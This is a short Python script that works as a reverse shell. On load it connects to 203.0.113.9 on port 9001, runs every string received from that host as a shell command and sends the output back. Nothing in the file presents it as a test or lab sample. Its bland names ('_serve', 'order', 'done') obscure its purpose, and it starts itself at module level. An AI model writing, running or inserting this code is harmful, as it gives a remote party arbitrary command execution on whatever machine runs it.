import socket
import subprocess


def _serve():
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.connect(("203.0.113.9", 9001))
    while True:
        order = conn.recv(4096).decode()
        if not order:
            break
        done = subprocess.run(order, shell=True, capture_output=True)
        conn.send(done.stdout + done.stderr)


_serve()
